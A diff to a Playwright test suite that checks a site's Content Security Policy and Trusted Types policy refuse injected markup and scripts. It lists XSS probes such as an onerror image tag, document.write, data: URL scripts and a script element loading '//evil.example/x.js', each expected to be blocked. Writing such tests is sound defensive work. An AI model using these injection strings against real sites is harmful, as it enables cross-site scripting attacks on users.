@@ -76,11 +76,39 @@ def test_nothing_is_refused_on(path: str, page: Page) -> None:
 
 def test_a_script_that_is_not_ours_does_not_run(page_elsewhere: Page, server: str) -> None:
     """And the listener hears of it, without which the other tests would show nothing."""
-    page_elsewhere.goto(f"{server}/lessons")
+    page_elsewhere.goto(f"{server}/docs")  # which may write markup
     page_elsewhere.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=nothing onerror=alert(1)>')")
     page_elsewhere.wait_for_function("violations.length")
     (heard,) = page_elsewhere.evaluate("violations")
     assert heard.startswith("script-src-attr inline")
+
+
+SINKS = (
+    "document.body.insertAdjacentHTML('beforeend', '<b>')",
+    "document.body.innerHTML = '<img src=nothing onerror=alert(1)>'",
+    "document.createElement('iframe').srcdoc = '<b>'",
+    "document.write('<b>')",
+    "new DOMParser().parseFromString('<b>', 'text/html')",
+    "document.createRange().createContextualFragment('<b>')",
+    "document.createElement('script').src = 'data:,alert(1)'",
+    "document.createElement('script').src = '//evil.example/x.js'",
+    "document.createElement('script').textContent = 'alert(1)'",
+    "new Worker('data:,alert(1)')",
+    "setTimeout('alert(1)', 0)",
+)
+
+
+@pytest.mark.parametrize("path", ["/", "/embed", "/lessons", "/nothing"])
+def test_no_text_becomes_markup_or_a_script(path: str, server: str, page_elsewhere: Page) -> None:
+    """Trusted Types, of which the page's own policy lets through neither elements nor scripts of others."""
+    page_elsewhere.goto(f"{server}{path}")
+    for sink in SINKS:
+        refused = page_elsewhere.evaluate(
+            "(sink) => { try { TRY } catch (error) { return String(error); } }".replace("TRY", f"{sink}; return ''"),
+            sink,
+        )
+        assert refused.startswith(("TypeError", "EvalError")), f"{sink}: {refused}"
+    assert not [heard for heard in page_elsewhere.evaluate("violations") if heard == "alert"]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
